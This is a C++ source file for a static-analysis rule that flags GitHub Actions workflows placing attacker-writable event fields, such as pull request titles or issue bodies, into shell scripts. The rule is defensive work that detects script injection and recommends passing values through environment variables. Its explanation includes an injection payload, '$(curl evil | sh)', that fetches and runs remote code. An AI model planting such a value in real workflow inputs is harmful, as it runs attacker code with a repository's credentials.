#include "rules/rule.h"

#include "project/model.h"
#include "rules/lib/ci.h"
#include "rules/lib/words.h"

namespace seaworthy::rules::workflow_input_in_script {

/// Values of an event that whoever opens a request, an issue or a branch writes freely.
static std::string_view foreign_value(std::string_view expression) {
  for (const std::string_view value :
       {"github.event.pull_request.title", "github.event.pull_request.body", "github.event.pull_request.head.ref",
        "github.event.pull_request.head.label", "github.event.issue.title", "github.event.issue.body",
        "github.event.comment.body", "github.event.review.body", "github.event.head_commit.message",
        "github.event.head_commit.author.name", "github.event.discussion.title", "github.event.discussion.body",
        "github.head_ref"})
    if (contains(expression, value)) return value;
  return {};
}

static void check(const project::File& file, Report& report) {
  bool asks = false;
  // Only these triggers run foreign text with the repository's own credentials.
  const std::string_view whole = file.has_content ? report.project().sources[file.source].text() : std::string_view();
  const bool privileged = contains(whole, "pull_request_target") || contains(whole, "issue_comment") ||
                          contains(whole, "issues:") || contains(whole, "workflow_run");
  for_each_github_step(file, [&](const yaml::Node& step) {
    const yaml::Node* const run = step.get("run");
    if (run == nullptr || !run->is_scalar()) return;
    asks = true;
    const std::string_view text = run->text;
    for (std::size_t at = text.find("${{"); at != std::string_view::npos; at = text.find("${{", at + 3)) {
      const std::size_t end = text.find("}}", at);
      if (end == std::string_view::npos) break;
      const std::string_view value = foreign_value(text.substr(at, end - at));
      if (value.empty()) continue;
      const Span span = run->mapped().span(static_cast<std::uint32_t>(at), static_cast<std::uint32_t>(end + 2));
      report.at(span, "`{}` is put into the script before a shell reads it; hand it over in `env`", value)
          .severity(privileged                     ? Severity::high
                    : leaves_forks_out(file, span) ? Severity::low
                                                   : Severity::medium);
    }
  });
  if (!asks) report.skip();
}

extern const Rule rule = {
    .code = "SW4609",
    .summary = "Foreign text in the script of a workflow",
    .why = "A title such as `$(curl evil | sh)` runs with the job's credentials.",
    .remedy = "Put the value into a variable with `env:` and use `\"$TITLE\"` in the script.",
    .references = "https://docs.github.com/en/actions/concepts/security/script-injections",
    .severity = Severity::high,
    .rung = Rung::resist,
    .category = Category::security,
    .strength = "keep foreign text out of their scripts",
    .check = each_file<check>(),
};

}  // namespace seaworthy::rules::workflow_input_in_script
